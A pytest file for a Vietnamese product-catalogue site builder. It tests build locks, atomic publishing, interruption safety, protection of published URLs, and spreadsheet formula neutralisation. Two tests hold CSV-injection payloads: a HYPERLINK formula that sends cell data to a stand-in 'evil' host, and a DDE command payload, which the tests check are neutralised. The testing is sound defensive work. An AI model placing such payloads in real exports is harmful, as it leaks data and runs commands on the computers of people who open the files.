"""Publishing that cannot lose the site: one build at a time, an atomic switch, the memory of published URLs,
clean interruptions, and CSV/TSV cells that no spreadsheet runs as formulas.

The concurrency and interruption tests run the real `ocop build` in subprocesses on a site folder made by
`ocop init`, and kill them at named stages (OCOP_TEST_PAUSE_AT, a hook for tests only).
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from ocop import published, site_folder
from ocop.text import FORMULA_STARTS, neutralised
from ocop_catalogue.publish import RETIRED, Layout, delete_later

from conftest import BUILD_DATE, GOOD_RECORD, build_site, write

RECORD = "products/lam-dong/nuoc-mam-ca-com-phuoc-loc.yaml"
SHOWROOM = "content/showrooms/diem-ban-la-gi.yaml"
STAGES = ("staging", "built", "versioned", "remembered", "switched")


@pytest.fixture
def site(tmp_path) -> Path:
    """A site folder as `ocop init` makes it (one product with a photo, one showroom), quick to build."""
    folder = tmp_path / "site"
    site_folder.create(folder)
    with (folder / "pelicanconf.py").open("a", encoding="utf-8") as f:
        f.write(f'OCOP_BUILD_DATE = "{BUILD_DATE}"\nOCOP_SEARCH_INDEX = False\n')
    return folder


def env(**extra: str) -> dict[str, str]:
    clean = {k: v for k, v in os.environ.items() if k not in ("OCOP_SITE", "OCOP_PRODUCTS", "OCOP_PROVINCE")}
    return {**clean, "OCOP_LANG": "en", **extra}


def start(folder: Path, *args: str, **extra: str) -> subprocess.Popen:
    """`ocop build` in its own process group (so a kill reaches its workers too)."""
    return subprocess.Popen(
        [sys.executable, "-m", "ocop_catalogue.command", "build", *args],
        cwd=folder,
        env=env(**extra),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )


def ocop_build(folder: Path, *args: str, **extra: str) -> subprocess.CompletedProcess:
    proc = start(folder, *args, **extra)
    out, err = proc.communicate(timeout=300)
    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err)


def paused_at(folder: Path, stage: str, seconds: float = 600, until: Path | None = None) -> subprocess.Popen:
    """A build stopped at `stage` for `seconds` (or until the file `until` exists), holding the lock."""
    signal_file = {"OCOP_TEST_PAUSE_AT_UNTIL": str(until)} if until else {}
    proc = start(folder, OCOP_TEST_PAUSE_AT=stage, OCOP_TEST_PAUSE_AT_SECONDS=str(seconds), **signal_file)
    assert proc.stderr is not None
    for line in proc.stderr:
        if line.strip() == f"ocop-test-paused {stage}":
            return proc
    proc.wait()
    pytest.fail(f"the build never reached {stage}: exit {proc.returncode}")


def files(out: Path) -> dict[str, bytes]:
    return {f.relative_to(out).as_posix(): f.read_bytes() for f in sorted(out.rglob("*")) if f.is_file()}


def retired_gone(versions: Path, timeout: float = 60) -> None:
    """Retired versions are deleted by a detached process after the build: wait for it (a busy machine is slow)."""
    deadline = time.monotonic() + timeout
    while list(versions.glob(f"*{RETIRED}")) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not list(versions.glob(f"*{RETIRED}")), "a retired version was not deleted"


def assert_clean(folder: Path) -> None:
    """Nothing left behind: the published version, at most the previous one, the lock; no half-written file."""
    versions = folder / ".output.versions"
    retired_gone(versions)
    names = {p.name for p in versions.iterdir()}
    assert "lock" in names and len(names) <= 3, names
    assert all(name.isdigit() or name == "lock" for name in names), names
    assert (folder / "output").is_symlink() and (folder / "output").resolve().parent == versions
    assert not list(folder.glob(".output.published.json.*"))


def test_neutralised_follows_owasp():
    for hostile in ('=HYPERLINK("http://evil/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutralised(hostile) == "'" + hostile
    for fine in ("Nước mắm", "0252 3843 571", "", 85000, None, "a=b"):
        assert neutralised(fine) == fine


def test_no_csv_or_tsv_cell_starts_a_formula(tmp_path):
    products, out = tmp_path / "products", tmp_path / "output"
    hostile = (
        GOOD_RECORD.replace('"Nước mắm thử nghiệm"', '"=HYPERLINK(\\"http://evil/?\\"&A1)"')
        .replace('"Test fish sauce"', "\"+1+cmd|' /C calc'!A0\"")
        .replace("Cơ sở thử nghiệm", '"@SUM(1+1)"')
        + 'summary: {vi: "-2+3 giảm giá", en: "=1+1"}\n'
        + 'offer: {price: 85000, unit: {vi: "=chai", en: "@bottle"}}\n'
    )
    write(products, "doc-hai.yaml", hostile)
    assert build_site(out, products) == 0
    tables = sorted((out / "feeds").glob("*.csv")) + sorted((out / "feeds").glob("*.tsv"))
    assert {f.name for f in tables} == {
        "meta-catalogue.csv",
        "meta-catalogue-en.csv",
        "google-merchant-vi.tsv",
        "google-merchant-en.tsv",
        "ocop-products.csv",
    }
    seen = set()
    for table in tables:
        rows = list(
            csv.reader(io.StringIO(table.read_text(encoding="utf-8")), delimiter="\t" if ".tsv" in table.name else ",")
        )
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (table.name, cell)
                seen.add(cell)
    assert '\'=HYPERLINK("http://evil/?"&A1)' in seen and "'@SUM(1+1)" in seen
    opendata = (out / "feeds/ocop-products.csv").read_text(encoding="utf-8")
    assert "'@SUM(1+1)" in opendata and "'=HYPERLINK" in opendata


def test_the_preview_waits_for_a_build(tmp_path):
    """A preview rebuild and a build share the cache: the preview takes the same lock."""
    from ocop_catalogue.publish import EXIT_BUSY, lock_file, locked, preview_site, site_of

    from conftest import SETTINGS

    products = tmp_path / "products"
    write(products, "a.yaml", GOOD_RECORD)
    settings = {"OCOP_PRODUCTS_PATH": str(products), "OCOP_CACHE_PATH": str(tmp_path / "cache")}
    site_ = site_of(SETTINGS, {**settings, "OCOP_BUILD_DATE": BUILD_DATE, "OCOP_BUILD_LOCK_WAIT": 0.2})
    with locked([lock_file(site_)], 1, print):  # as a running build holds it
        assert preview_site(site_, tmp_path / "preview", "en") == EXIT_BUSY
    assert not (tmp_path / "preview" / "index.html").exists()
    assert preview_site(site_, tmp_path / "preview", "en") == 0


def test_two_builds_at_once_publish_one_complete_site(site, tmp_path):
    assert ocop_build(site).returncode == 0
    reference = files(site / "output")
    assert "index.html" in reference and any(name.startswith("media/") for name in reference)
    go = tmp_path / "go"
    first = paused_at(site, "built", seconds=300, until=go)  # holds the lock until the second one waits for it
    second = start(site)
    assert second.stderr is not None
    said = []
    for line in second.stderr:  # no sleep to guess how long a loaded machine takes to start a build
        said.append(line)
        if "Another build of this site is running" in line:
            break
    go.touch()
    results = [p.communicate(timeout=300) for p in (first, second)]
    assert (first.returncode, second.returncode) == (0, 0), (results, said)
    assert files(site / "output") == reference  # complete, never a mixture of two builds
    assert "Another build of this site is running" in "".join(said), said
    assert_clean(site)


def test_a_build_that_cannot_wait_says_so_and_changes_nothing(site):
    assert ocop_build(site).returncode == 0
    before = files(site / "output")
    holder = paused_at(site, "built")
    try:
        res = ocop_build(site, "--wait", "0.5")
        assert res.returncode == 3
        assert "Another build of this site is still running" in res.stderr and str(holder.pid) in res.stderr
        assert "Nothing was built" in res.stderr and "Traceback" not in res.stderr
        vi = ocop_build(site, "--wait", "0", OCOP_LANG="vi")
        assert vi.returncode == 3 and "Một lần dựng trang khác của trang này vẫn đang chạy" in vi.stderr
    finally:
        os.killpg(holder.pid, signal.SIGKILL)
        holder.wait()
    assert files(site / "output") == before


@pytest.mark.parametrize("stage", STAGES)
def test_a_build_killed_at_any_stage_leaves_the_old_site_or_the_new(site, stage):
    assert ocop_build(site).returncode == 0
    old = files(site / "output")
    record = site / RECORD
    record.write_text(record.read_text(encoding="utf-8").replace("Phước Lộc", "Phước Lộc mới"), encoding="utf-8")
    proc = paused_at(site, stage)
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()
    killed = files(site / "output")
    res = ocop_build(site)
    assert res.returncode == 0, res.stderr
    new = files(site / "output")
    assert new != old and killed in (old, new), stage
    assert_clean(site)


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
def test_ctrl_c_ends_cleanly(site, sig):
    assert ocop_build(site).returncode == 0
    before = files(site / "output")
    proc = paused_at(site, "built")
    os.killpg(proc.pid, sig)  # as a terminal's Ctrl-C does: the whole process group
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 130, err
    assert "Traceback" not in err and "The build was interrupted" in err
    assert files(site / "output") == before
    assert not list((site / ".output.versions").glob("*.building"))
    assert_clean(site)


def fresh_copy(site: Path, tmp_path: Path) -> Path:
    """The site folder as a new checkout has it: records, settings and the manifest; no output, no cache."""
    copy = tmp_path / "checkout"
    shutil.copytree(site, copy, ignore=shutil.ignore_patterns("output", ".output.versions", ".cache"))
    assert (copy / "output.published.json").is_file() and not (copy / "output").exists()
    return copy


def test_the_memory_guards_a_fresh_checkout(site, tmp_path):
    assert ocop_build(site).returncode == 0
    memory = json.loads((site / "output.published.json").read_text(encoding="utf-8"))
    assert "san-pham/nuoc-mam-ca-com-phuoc-loc/" in memory["pages"]
    assert "diem-ban/diem-ban-la-gi/" in memory["pages"] and "en/showrooms/diem-ban-la-gi/" in memory["pages"]
    assert memory["slugs"] == {"nuoc-mam-ca-com-phuoc-loc": "ld-ph-0001"}
    assert memory["media"] and all(m.startswith("media/ld-ph-0001/") or "showrooms" in m for m in memory["media"])
    copy = fresh_copy(site, tmp_path)
    record = copy / RECORD
    record.rename(record.with_name("nuoc-mam-moi.yaml"))
    res = ocop_build(copy)
    assert res.returncode == 1 and "san-pham/nuoc-mam-ca-com-phuoc-loc/: error: this page was published" in res.stderr
    assert not (copy / "output").exists()
    moved = record.with_name("nuoc-mam-moi.yaml")
    moved.write_text("former_slugs: [nuoc-mam-ca-com-phuoc-loc]\n" + moved.read_text(encoding="utf-8"), "utf-8")
    res = ocop_build(copy)
    assert res.returncode == 0, res.stderr
    assert "photo file(s) published before" not in res.stderr  # the photo did not change: its files are the same


def test_removing_a_showroom_page_is_refused(site):
    assert ocop_build(site).returncode == 0
    (site / SHOWROOM).unlink()
    record = site / RECORD
    record.write_text(record.read_text(encoding="utf-8").replace("showrooms: [diem-ban-la-gi]\n", ""), "utf-8")
    res = ocop_build(site)
    assert res.returncode == 1
    assert "diem-ban/diem-ban-la-gi/: error: this page was published" in res.stderr
    assert "en/showrooms/diem-ban-la-gi/: error" in res.stderr
    assert (site / "output/diem-ban/diem-ban-la-gi/index.html").is_file()
    assert ocop_build(site, "--allow-removed-urls").returncode == 0
    assert not (site / "output/diem-ban/diem-ban-la-gi").exists()


def test_an_address_is_never_given_to_another_product(site):
    assert ocop_build(site).returncode == 0
    record = site / RECORD
    text = record.read_text(encoding="utf-8")
    record.unlink()  # the product is deleted, and a new one gets its file name: the old QR codes would show it
    write(record.parent, record.name, text.replace("ld-ph-0001", "ld-ph-0002").replace("Phước Lộc", "Tân Hải"))
    showroom = site / SHOWROOM
    showroom.write_text(showroom.read_text(encoding="utf-8").replace("ld-ph-0001", "ld-ph-0002"), "utf-8")
    res = ocop_build(site)
    assert res.returncode == 1
    assert "nuoc-mam-ca-com-phuoc-loc: error: this address was published for product ld-ph-0001" in res.stderr
    assert "product ld-ph-0002 (products/lam-dong/nuoc-mam-ca-com-phuoc-loc.yaml)" in res.stderr
    assert "Phước Lộc" in (site / "output/san-pham/nuoc-mam-ca-com-phuoc-loc/index.html").read_text("utf-8")
    vi = ocop_build(site, OCOP_LANG="vi")
    assert vi.returncode == 1 and "địa chỉ này đã được xuất bản cho sản phẩm ld-ph-0001" in vi.stderr


def test_changing_only_an_id_is_refused_and_photos_stay(site):
    assert ocop_build(site).returncode == 0
    old_media = {m for m in files(site / "output") if m.startswith("media/ld-ph-0001/")}
    record = site / RECORD
    record.write_text(record.read_text(encoding="utf-8").replace("ld-ph-0001", "ld-ph-0009"), "utf-8")
    (site / SHOWROOM).write_text(
        (site / SHOWROOM).read_text(encoding="utf-8").replace("ld-ph-0001", "ld-ph-0009"), "utf-8"
    )
    res = ocop_build(site)
    assert res.returncode == 1 and "published for product ld-ph-0001; product ld-ph-0009" in res.stderr
    assert ocop_build(site, "--allow-removed-urls").returncode == 0
    memory = published.read(site / "output.published.json")
    assert memory is not None and memory.slugs["nuoc-mam-ca-com-phuoc-loc"] == "ld-ph-0009"
    assert old_media and not any((site / "output" / m).exists() for m in old_media)  # the override drops them


def test_a_replaced_photo_keeps_its_old_urls(site):
    assert ocop_build(site).returncode == 0
    old_media = {m for m in files(site / "output") if m.startswith("media/ld-ph-0001/")}
    photo = site / "products/lam-dong/chai-nuoc-mam-la-gi.jpg"
    from PIL import Image

    with Image.open(photo) as im:
        im.rotate(180).save(photo, "JPEG")
    assert ocop_build(site).returncode == 0
    now = {m for m in files(site / "output") if m.startswith("media/ld-ph-0001/")}
    assert old_media < now  # new renditions, and the old URLs still answer


def test_first_build_moves_a_real_output_folder_in(site):
    assert ocop_build(site).returncode == 0
    out = site / "output"
    real = out.resolve()
    out.unlink()
    shutil.move(real, out)  # the layout before versions: a real folder, no memory file
    shutil.rmtree(site / ".output.versions")
    (site / "output.published.json").unlink()
    before = files(out)
    record = site / RECORD
    record.rename(record.with_name("khac.yaml"))
    res = ocop_build(site)  # the guard reads the real folder
    assert res.returncode == 1 and "nuoc-mam-ca-com-phuoc-loc/: error" in res.stderr
    assert not out.is_symlink() and files(out) == before
    record.with_name("khac.yaml").rename(record)
    assert ocop_build(site).returncode == 0
    assert out.is_symlink() and files(out) == before
    assert_clean(site)


def test_leftovers_of_a_killed_build_are_removed(site):
    assert ocop_build(site).returncode == 0
    versions = site / ".output.versions"
    (versions / "7.building" / "san-pham").mkdir(parents=True)
    (versions / "link-1.tmp").symlink_to("nowhere")
    (site / ".output.published.json.abc.tmp").write_text("{", encoding="utf-8")
    assert ocop_build(site).returncode == 0
    assert_clean(site)


def test_a_lost_link_is_restored_from_the_newest_version(site):
    assert ocop_build(site).returncode == 0
    before = files(site / "output")
    (site / "output").unlink()  # as a kill between moving a real output/ in and linking would leave it
    record = site / RECORD
    record.rename(record.with_name("khac.yaml"))
    res = ocop_build(site)
    assert res.returncode == 1 and files(site / "output") == before


def test_lock_is_held_and_released(tmp_path):
    from ocop_catalogue.publish import Busy, locked

    lock = tmp_path / "x.lock"
    told: list[str] = []
    with locked([lock], 1, told.append):
        child = subprocess.run(
            [
                sys.executable,
                "-c",
                "import sys; from pathlib import Path; from ocop_catalogue.publish import locked, Busy\n"
                "try:\n    with locked([Path(sys.argv[1])], 0.3, print): pass\n"
                "except Busy as e:\n    print('busy', e.holder); sys.exit(3)",
                str(lock),
            ],
            capture_output=True,
            text=True,
        )
        assert child.returncode == 3 and str(os.getpid()) in child.stdout
    started = time.monotonic()
    with locked([lock], 1, told.append):
        pass
    assert time.monotonic() - started < 1 and told == []
    assert Busy("x").holder == "x"


def test_old_versions_are_deleted_after_the_build_without_holding_it(site):
    """The version before last is renamed away at once (never half-deleted under its own name) and deleted
    by a detached process: the build's output closes before it is gone, and the next build does not wait."""
    for _ in range(3):
        assert ocop_build(site, "--full").returncode == 0  # --full: a build even when nothing changed
    versions = site / ".output.versions"
    assert sorted(Layout(site / "output").numbers()) == [2, 3]
    assert not (versions / "1").exists()
    assert_clean(site)


def test_a_deletion_cut_short_is_finished_by_the_next_build(site):
    assert ocop_build(site).returncode == 0
    versions = site / ".output.versions"
    stale = versions / f"0.4242{RETIRED}"
    (stale / "san-pham" / "x").mkdir(parents=True)
    (stale / "san-pham" / "x" / "index.html").write_text("old", encoding="utf-8")
    (versions / f"lone.4242{RETIRED}").write_text("a file, not a folder", encoding="utf-8")
    assert Layout(site / "output").numbers() == [1]  # never taken for a version
    assert ocop_build(site).returncode == 0
    assert_clean(site)


def test_delete_later_deletes_folders_files_and_nothing_else(tmp_path):
    doomed = tmp_path / f"5.1{RETIRED}"
    (doomed / "a" / "b").mkdir(parents=True)
    (doomed / "a" / "b" / "f.html").write_text("x", encoding="utf-8")
    kept = tmp_path / "6"
    kept.mkdir()
    (kept / "f.html").hardlink_to(doomed / "a" / "b" / "f.html")
    single = tmp_path / f"x{RETIRED}"
    single.write_text("y", encoding="utf-8")
    delete_later([doomed, single])
    retired_gone(tmp_path)
    assert (kept / "f.html").read_text(encoding="utf-8") == "x"
